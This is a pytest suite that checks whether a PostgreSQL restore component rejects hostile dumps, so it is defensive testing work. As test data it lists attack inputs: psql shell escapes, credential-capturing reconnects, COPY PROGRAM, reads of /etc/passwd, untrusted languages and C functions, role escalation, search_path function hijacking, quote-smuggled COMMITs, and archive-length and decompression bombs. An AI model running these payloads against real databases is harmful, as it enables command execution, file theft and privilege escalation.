"""Whoever writes a PostgreSQL dump wants more than their database."""

from __future__ import annotations

import asyncio
import re
import struct
import subprocess
import zlib
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import psycopg
import pytest

from app.archives.streams import from_bytes
from app.components.base import Report
from app.components.postgresql import PostgresqlComponent, PostgresqlTarget
from app.deployments.base import Deployment
from app.deployments.process import SEARCH_PATH
from app.deployments.ssh import SshDeployment, server_of
from app.deployments.standalone import StandaloneDeployment
from app.errors import DatabaseAccessDenied, LiberuError, LoadFailed
from demo.servers import PostgresqlServer, postgresql_server
from demo.ssh_servers import ssh_host
from tests.attacks.hostile_scripts import HEAD, dump, shells
from tests.components.helpers import Context, Unconfined, codes


@pytest.fixture(scope="module")
def server() -> Iterator[PostgresqlServer]:
    with postgresql_server() as started:
        started.run("CREATE ROLE owner LOGIN PASSWORD 'owner-pw'; CREATE ROLE neighbour LOGIN PASSWORD 'x';")
        started.run("CREATE DATABASE neighbour OWNER neighbour")
        yield started


@pytest.fixture
def live(server: PostgresqlServer) -> Iterator[PostgresqlTarget]:
    server.run("CREATE DATABASE shop OWNER owner")
    server.run("ALTER SCHEMA public OWNER TO owner", "shop")
    server.run("CREATE TABLE public.old (a int); INSERT INTO old VALUES (1)", "shop", "owner", "owner-pw")
    yield PostgresqlTarget("shop", "owner", "owner-pw", "127.0.0.1", server.port)
    server.run("DROP DATABASE shop WITH (FORCE)")


CHOSEN = ("standard_conforming_strings", "rows of a COPY that is none")


async def load(
    target: PostgresqlTarget, content: bytes, deployment: Deployment | None = None, *, foreign: bool = False
) -> Report:
    component = PostgresqlComponent(deployment or StandaloneDeployment(), target)
    async with asyncio.timeout(120):
        context = replace(Context().context, foreign=foreign)
        return await component.restore(from_bytes(content), context, len(content))


def tables(server: PostgresqlServer) -> str:
    return server.run(
        "SELECT coalesce(string_agg(relname, ' ' ORDER BY relname), '') FROM pg_class "
        "WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace",
        "shop",
    )


@pytest.mark.parametrize("what", shells(b""))
async def test_a_dump_wants_a_shell(
    server: PostgresqlServer, live: PostgresqlTarget, tmp_path: Path, what: str
) -> None:
    marker = tmp_path / "marker"
    content = dump(shells(b"\\! touch %s" % bytes(marker))[what])
    try:
        await load(live, content, Unconfined())
    except LoadFailed as error:
        assert error.message.endswith("nothing was changed")
        assert tables(server) == "old"
    else:
        assert "made" in tables(server)
    assert not marker.exists()


async def test_a_dump_wants_a_shell_on_the_sites_server(
    server: PostgresqlServer, live: PostgresqlTarget, tmp_path: Path
) -> None:
    """Where there is only its own psql, over SSH and as root."""
    tmp_path.chmod(0o777)
    marker = tmp_path / "marker"

    async def known(found: dict[str, Any]) -> None:
        pass

    with ssh_host(sudo=True) as host:
        there = SshDeployment(server_of(host.configuration), known)
        await there.prepare()
        try:
            for what in CHOSEN:
                with suppress(LoadFailed):
                    await load(live, dump(shells(b"\\! touch %s" % bytes(marker))[what]), there)
            await load(live, dump(b"CREATE TABLE public.fine (a int);\n"), there)
        finally:
            await there.close()
    assert tables(server) == "fine made"
    assert not marker.exists()


@pytest.mark.parametrize("command", [b"\\c", b"\\connect -reuse-previous=on", b"\\copy made from program"])
async def test_a_dump_wants_our_password(
    server: PostgresqlServer, live: PostgresqlTarget, tmp_path: Path, command: bytes
) -> None:
    """psql would connect to a host of theirs as whoever we are."""
    called: list[bytes] = []

    async def answered(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        called.append(await reader.read(100))
        writer.close()

    async with await asyncio.start_server(answered, "127.0.0.1", 0) as listening:
        port = listening.sockets[0].getsockname()[1]
        to = b"%s 'host=127.0.0.1 port=%d user=owner dbname=shop'" % (command, port)
        for body in [to + b"\n", *[shells(to)[what] for what in CHOSEN]]:
            with suppress(LoadFailed):
                await load(live, dump(body), Unconfined())
    assert not called


async def test_a_dump_wants_to_be_half_restored(server: PostgresqlServer, live: PostgresqlTarget) -> None:
    """Hidden from us and seen by the server: our COMMIT is a row, or our transaction ends before it."""
    off = b"SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false);\n"
    for hidden in (b"COPY public.made FROM stdin", b"ROLLBACK", b"ROLLBACK;BEGIN"):
        with pytest.raises(LoadFailed, match="nothing was changed"):
            await load(live, dump(off + b"SELECT '\\'';%s;--';\nCREATE TABLE public.later (a int);\n" % hidden))
        assert tables(server) == "old", hidden
    with pytest.raises(LoadFailed, match="ended the restore's transaction by itself"):
        await load(live, dump(off + b"SELECT '\\'';COMMIT;BEGIN;--';\nCREATE TABLE public.later (a int);\n"))
    assert tables(server) == "made"


OUTSIDE = {
    "a program": "COPY public.made TO PROGRAM 'touch {marker}'",
    "a program's output": "COPY public.made FROM PROGRAM 'touch {marker}'",
    "a file": "COPY public.made TO '{marker}'",
    "somebody's file": "COPY public.made FROM '/etc/passwd'",
    "a file by a large object": "SELECT pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), '{marker}')",
    "a file as a large object": "SELECT pg_catalog.lo_import('/etc/passwd')",
    "a file by a function": "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "a folder": "SELECT pg_catalog.pg_ls_dir('/')",
    "files as tables": "CREATE EXTENSION file_fdw",
    "other hosts": "CREATE EXTENSION dblink",
    "the server's files": "CREATE EXTENSION adminpack",
    "an untrusted language": "CREATE LANGUAGE plpython3u",
    "a language of theirs": "CREATE LANGUAGE mine HANDLER pg_catalog.plpgsql_call_handler",
    "a function in C": "CREATE FUNCTION public.f() RETURNS int LANGUAGE c AS 'libc.so.6', 'getpid'",
    "the server's own function": "CREATE FUNCTION public.f(text) RETURNS text LANGUAGE internal AS 'pg_read_file'",
    "a library": "LOAD '/tmp/x.so'",
    "everybody's commands": (
        "CREATE FUNCTION public.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; "
        "CREATE EVENT TRIGGER mine ON ddl_command_start EXECUTE FUNCTION public.f()"
    ),
    "the server's settings": "ALTER SYSTEM SET archive_command = 'touch {marker}'",
    "a neighbour's password": "ALTER ROLE neighbour PASSWORD 'mine'",
    "an administrator's password": "ALTER ROLE admin PASSWORD 'mine'",
    "to be an administrator": "SET ROLE admin",
    "to become one": "ALTER ROLE owner SUPERUSER",
    "a role": "CREATE ROLE another LOGIN",
    "a neighbour's database": "ALTER DATABASE neighbour RENAME TO mine",
    "a neighbour's database gone": "DROP DATABASE neighbour",
    "a place on the disk": "CREATE TABLESPACE mine LOCATION '/tmp'",
    "rows from elsewhere": "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p",
    "a log that is kept": "SELECT pg_catalog.pg_create_physical_replication_slot('mine', true)",
    "an administrator's session": (
        "SELECT 1 / pg_catalog.pg_terminate_backend(pid)::int FROM pg_catalog.pg_stat_activity "
        "WHERE usename = 'admin'"
    ),
}


async def test_a_dump_wants_what_is_outside_of_its_database(
    server: PostgresqlServer, live: PostgresqlTarget, tmp_path: Path
) -> None:
    tmp_path.chmod(0o777)
    marker = tmp_path / "marker"
    everything = (
        "SELECT (SELECT string_agg(r::text, ',' ORDER BY oid) FROM pg_authid r), "
        "(SELECT string_agg(datname || datdba, ',' ORDER BY oid) FROM pg_database), to_regclass('public.old') IS NULL"
    )
    component = PostgresqlComponent(StandaloneDeployment(), live)
    with psycopg.connect(  # a session of the administrator's
        host="127.0.0.1",
        port=server.port,
        user="admin",
        password=server.admin_password,
        dbname="shop",
        autocommit=True,
    ) as admin:
        before = admin.execute(everything).fetchall()
        for what, statement in OUTSIDE.items():
            content = f"CREATE TABLE public.made (a text);\n{statement.format(marker=marker)};\n".encode()
            with pytest.raises(LoadFailed, match=r"statement \d.*nothing was changed"):
                await component.restore(from_bytes(content), Context().context, len(content))
            assert admin.execute(everything).fetchall() == before, what
            assert not marker.exists(), what


@pytest.mark.parametrize(
    "power",
    ["SUPERUSER", "CREATEROLE", "REPLICATION", "pg_execute_server_program", "pg_write_server_files", "through"],
)
async def test_a_dump_wants_an_account_that_reaches_further(
    server: PostgresqlServer, live: PostgresqlTarget, power: str
) -> None:
    """Also by way of a role that they would have to take first, and whoever they are by default."""
    server.run("CREATE ROLE strong LOGIN PASSWORD 'strong-pw'")
    if power == "through":
        server.run("CREATE ROLE between NOINHERIT; GRANT between TO strong; GRANT pg_read_server_files TO between;")
        server.run("ALTER ROLE strong SET role = between")
    elif power.isupper():
        server.run(f"ALTER ROLE strong {power}")
    else:
        server.run(f"GRANT {power} TO strong")
    try:
        strong = PostgresqlTarget("shop", "strong", "strong-pw", "127.0.0.1", server.port)
        with pytest.raises(DatabaseAccessDenied, match=f"(?i){'read_server' if power == 'through' else power}"):
            await load(strong, dump(b""))
        assert tables(server) == "old"
    finally:
        server.run("DROP ROLE strong; DROP ROLE IF EXISTS between")


async def test_a_tenant_wants_to_run_as_whoever_looks(server: PostgresqlServer, live: PostgresqlTarget) -> None:
    """What stands for PostgreSQL's own functions and operators is not called by us, whoever owns the account."""
    trap = "LANGUAGE plpgsql AS 'BEGIN CREATE TABLE IF NOT EXISTS public.caught (a int); RETURN true; END'"
    server.run(
        f"CREATE SCHEMA evil; CREATE FUNCTION evil.pg_has_role(name, oid, text) RETURNS bool {trap};"
        f"CREATE FUNCTION evil.eq(name, name) RETURNS bool {trap};"
        "CREATE OPERATOR evil.= (FUNCTION = evil.eq, LEFTARG = name, RIGHTARG = name);"
        f"CREATE FUNCTION evil.no(name, text) RETURNS bool {trap};"
        "CREATE OPERATOR evil.!~ (FUNCTION = evil.no, LEFTARG = name, RIGHTARG = text);"
        f"CREATE FUNCTION evil.txid_status(bigint) RETURNS bool {trap};"
        "ALTER DATABASE shop SET search_path = evil, pg_catalog, public;",
        "shop",
        "owner",
        "owner-pw",
    )
    admin = PostgresqlTarget("shop", "admin", server.admin_password, "127.0.0.1", server.port)
    component = PostgresqlComponent(StandaloneDeployment(), admin)
    with pytest.raises(DatabaseAccessDenied):
        await component.preflight(Context().context, 0)
    await (await component.dump()).stream.aclose()
    await load(live, dump(b""))
    assert tables(server) == "made"


async def test_a_dump_leaves_a_function_that_runs_as_its_owner(
    server: PostgresqlServer, live: PostgresqlTarget
) -> None:
    """Nobody but the tenant owns anything: SECURITY DEFINER is the tenant."""
    await load(
        live,
        dump(
            b"CREATE FUNCTION public.f() RETURNS name LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user';\n"
            b"ALTER FUNCTION public.f() OWNER TO admin;\nCREATE VIEW public.v AS SELECT current_user AS who;\n"
            b"ALTER VIEW public.v OWNER TO admin;\n"
        ),
    )
    assert server.run("SELECT public.f()", "shop") == "owner"
    owners = "SELECT DISTINCT relowner::regrole FROM pg_class WHERE relnamespace = 'public'::regnamespace"
    assert server.run(owners, "shop") == "owner"


async def test_a_dump_wants_its_rows_in_our_log(server: PostgresqlServer, live: PostgresqlTarget) -> None:
    rows = b"CREATE TABLE public.t (a int UNIQUE, b text);\nCOPY public.t (a, b) FROM stdin;\n1\tx\n1\tsecret\n\\.\n"
    with pytest.raises(LoadFailed) as caught:
        await load(live, dump(rows))
    assert caught.value.message == (
        "shop: statement 3 (COPY public.t), row 2: duplicate key value violates unique constraint "
        '"t_a_key" (23505); nothing was changed'
    )
    inserts = b"INSERT INTO public.made VALUES ('fine');\n" * 3 + b"INSERT INTO public.gone VALUES ('%s');\n" % (
        b"secret" * 1000
    )
    with pytest.raises(LoadFailed, match=r"statement 2 or one of the inserts after it .*42P01") as caught:
        await load(live, dump(inserts))
    assert "secret" not in caught.value.message


async def test_what_a_dump_does_not_say_is_told(server: PostgresqlServer, live: PostgresqlTarget) -> None:
    """Made by hand, or by a newer pg_dump: loaded, and said."""
    newer = b"SET transaction_timeout = 0;\nSET idle_in_transaction_session_timeout = 0;\nCREATE TABLE t (a int);\n"
    report = await load(live, newer + b"GRANT ALL ON t TO nobody_here;\n")
    assert sorted(codes(report)) == ["grants_left_out", "left_out_of_dump", "no_end_marker"]
    assert tables(server) == "t"
    for empty in (b"", b"-- nothing\n", b"SELECT 1;\n", HEAD):
        with pytest.raises(LoadFailed, match="nothing was changed"):
            await load(live, empty)
    assert tables(server) == "t"


async def test_another_servers_dump_wants_a_neighbour_to_read_it(
    server: PostgresqlServer, live: PostgresqlTarget
) -> None:
    """A role of the same name is somebody else here; what is taken from everybody stays taken."""
    sql = b"""CREATE TABLE t (a int); CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';
        GRANT SELECT ON t TO neighbour; REVOKE ALL ON FUNCTION f() FROM PUBLIC;
        ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO neighbour;"""
    report = await load(live, sql, foreign=True)
    may = "SELECT has_table_privilege('neighbour', 'public.t', 'SELECT'), (SELECT count(*) FROM pg_default_acl), "
    may += "has_function_privilege('neighbour', 'public.f()', 'EXECUTE')"
    assert server.run(may, "shop") == "f|0|f"
    assert [line.subject for line in report.warnings if line.code == "grants_left_out"] == [
        "GRANT SELECT ON t TO neighbour",
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO neighbour",
    ]
    await load(live, sql)
    assert server.run(may, "shop") == "t|1|f", "a backup's own"


@pytest.fixture
def archive(server: PostgresqlServer, live: PostgresqlTarget) -> bytes:
    server.run("INSERT INTO public.old SELECT * FROM generate_series(1, 9)", "shop", "owner", "owner-pw")
    env = {"PATH": SEARCH_PATH, "PGPASSWORD": server.admin_password}
    argv = ["pg_dump", "-Fc", "-h", "127.0.0.1", "-p", str(server.port), "-U", "admin", "shop"]
    return subprocess.run(argv, env=env, capture_output=True, check=True).stdout


async def test_an_archive_wants_our_memory(server: PostgresqlServer, live: PostgresqlTarget, archive: bytes) -> None:
    """Counts and lengths of 2^31, everywhere in its head: an error, soon, and nothing is changed."""
    huge = [b"\0\xff\xff\xff\x7f", b"\1\xff\xff\xff\x7f", b"\xff" * 5]
    for at in [11, 18, *range(25, min(len(archive) - 5, 1200), 150)]:
        content = archive[:at] + huge[at % 3] + archive[at + 5 :]
        before = tables(server)
        try:
            await load(live, content)
        except LiberuError:
            assert tables(server) == before


async def test_an_archive_wants_our_disk(
    server: PostgresqlServer, live: PostgresqlTarget, archive: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.components.postgresql_archive._EXPANDS_FREE", 1 << 20)
    block = re.search(rb"\x01\x00..\x00\x00\x00(....)\x78[\x01\x5e\x9c\xda]", archive, re.DOTALL)
    assert block is not None
    rows = zlib.compress(b"7\n" * (1 << 20) + b"\\.\n\n\n")
    content = archive[: block.start(1)] + struct.pack("<i", len(rows)) + rows + bytes(5)
    monkeypatch.setattr("app.components.postgresql_archive._EXPANDS", 2000)
    await load(live, content)  # it is a whole archive
    assert server.run("SELECT count(*) FROM public.old", "shop") == str(1 << 20)
    monkeypatch.setattr("app.components.postgresql_archive._EXPANDS", 1)
    with pytest.raises(LoadFailed, match="looks like a bomb; nothing was changed"):
        await load(live, content)
